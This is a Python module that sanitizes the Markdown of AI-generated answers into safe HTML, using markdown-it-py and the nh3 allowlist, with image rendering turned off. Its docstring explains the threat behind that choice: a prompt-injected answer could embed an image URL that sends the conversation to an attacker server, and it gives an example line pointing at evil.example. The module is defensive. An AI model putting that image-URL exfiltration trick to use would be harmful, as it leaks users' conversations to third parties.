"""An answer's Markdown as HTML a page may insert as it is.

markdown-it-py renders CommonMark (with tables) and leaves raw HTML in the text as text;
nh3 (the ammonia sanitizer) then keeps only formatting tags and http(s)/mailto links, in
case a model or a poisoned document gets anything else through. Images are not rendered:
an image URL is fetched the moment the answer is shown, so a prompt-injected answer could
send the conversation to any server (`![](https://evil.example/?q=…)`); it stays a link."""

import nh3
from markdown_it import MarkdownIt

_MARKDOWN = (
    MarkdownIt("commonmark", {"html": False, "breaks": True}).enable("table").disable("image")
)

_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"style"},
    "td": {"style"},
}


def answer_html(markdown: str) -> str:
    """Safe HTML of an answer written in Markdown; links open in a new tab."""
    return nh3.clean(
        _MARKDOWN.render(markdown),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        filter_style_properties={"text-align"},
        set_tag_attribute_values={"a": {"target": "_blank"}},
        link_rel="noopener noreferrer",
    )
